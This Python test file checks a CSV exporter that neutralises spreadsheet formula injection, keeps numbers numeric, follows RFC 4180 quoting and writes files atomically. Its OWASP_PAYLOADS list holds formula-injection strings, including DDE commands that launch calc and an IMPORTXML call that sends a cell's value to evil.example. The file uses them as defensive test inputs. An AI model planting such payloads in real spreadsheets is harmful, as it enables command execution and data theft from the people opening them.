"""The formula-safe CSV writer: triggers neutralised, numbers numeric, RFC 4180, atomic."""

from __future__ import annotations

import codecs
import csv
import io
import os

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from data.export import TRIGGERS, neutralise, to_safe_csv_bytes, write_safe_csv

OWASP_PAYLOADS = [
    "=1+2",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example\",\"click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "\x00=1+2",
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\", A1), \"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
]


def _cells(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_owasp_payloads_are_prefixed_in_cells_and_headers():
    frame = pd.DataFrame({payload: [payload] for payload in OWASP_PAYLOADS})
    rows = _cells(to_safe_csv_bytes(frame))
    assert rows[0] == ["'" + p for p in OWASP_PAYLOADS]
    assert rows[1] == ["'" + p for p in OWASP_PAYLOADS]


def test_numbers_stay_numeric_and_negative_floats_are_not_prefixed():
    frame = pd.DataFrame({"score": [-3.5, 0.25, np.nan], "n": [-2, 0, 7],
                          "flag": [True, False, True]})
    expected = b"score,n,flag\r\n-3.5,-2,True\r\n0.25,0,False\r\n,7,True\r\n"
    assert to_safe_csv_bytes(frame) == expected


def test_text_that_looks_negative_is_text_and_is_prefixed():
    frame = pd.DataFrame({"note": ["-3.5", "ok"]}, dtype="str")
    assert to_safe_csv_bytes(frame) == b"note\r\n'-3.5\r\nok\r\n"


def test_object_column_mixes_numbers_and_text_cell_by_cell():
    frame = pd.DataFrame({"v": [-1.5, "=A1", None, "x"], "k": [1, 2, 3, 4]}, dtype=object)
    assert to_safe_csv_bytes(frame) == b"v,k\r\n-1.5,1\r\n'=A1,2\r\n,3\r\nx,4\r\n"


def test_rfc4180_quoting_of_commas_quotes_and_newlines():
    frame = pd.DataFrame({"t": ['a,b', 'say "hi"', "two\nlines"]})
    data = to_safe_csv_bytes(frame)
    assert data == b't\r\n"a,b"\r\n"say ""hi"""\r\n"two\nlines"\r\n'
    assert [r[0] for r in _cells(data)[1:]] == ["a,b", 'say "hi"', "two\nlines"]


def test_excel_bom_option():
    frame = pd.DataFrame({"name": ["Peñaloza"]})
    assert to_safe_csv_bytes(frame, excel_bom=True).startswith(codecs.BOM_UTF8)
    assert not to_safe_csv_bytes(frame).startswith(codecs.BOM_UTF8)
    assert "Peñaloza" in to_safe_csv_bytes(frame, excel_bom=True).decode("utf-8-sig")


def test_rejects_non_frames():
    with pytest.raises(TypeError, match="`frame` must be a pandas DataFrame"):
        to_safe_csv_bytes([1, 2])  # type: ignore[arg-type]


def test_write_is_atomic_and_leaves_no_partial_file(tmp_path, monkeypatch):
    target = tmp_path / "out.csv"
    target.write_bytes(b"old\r\n")

    def broken_replace(src, dst):
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", broken_replace)
    with pytest.raises(OSError, match="disk full"):
        write_safe_csv(pd.DataFrame({"a": [1]}), target)
    assert target.read_bytes() == b"old\r\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    monkeypatch.undo()
    write_safe_csv(pd.DataFrame({"a": ["=1"]}), target)
    assert target.read_bytes() == b"a\r\n'=1\r\n"


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(max_size=12), min_size=100, max_size=100))
def test_no_exported_text_cell_starts_with_a_trigger(texts):
    # 100 examples of 100 strings: 10,000 generated strings per run.
    for text in texts:
        cell = neutralise(text)
        assert not cell.startswith(TRIGGERS)
        assert cell in (text, "'" + text)
    rows = _cells(to_safe_csv_bytes(pd.DataFrame({"t": texts, "n": range(len(texts))})))
    assert all(not row[0].startswith(TRIGGERS) for row in rows[1:])


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=20), min_size=1, max_size=20),
       st.lists(st.floats(allow_nan=False, allow_infinity=False, width=64), min_size=1,
                max_size=20))
def test_exported_frames_parse_back_safely(texts, numbers):
    size = min(len(texts), len(numbers))
    frame = pd.DataFrame({"text": texts[:size], "number": numbers[:size]})
    rows = _cells(to_safe_csv_bytes(frame))
    assert len(rows) == size + 1
    for (text_cell, number_cell), number in zip(rows[1:], numbers[:size], strict=True):
        assert not text_cell.startswith(TRIGGERS)
        assert float(number_cell) == number
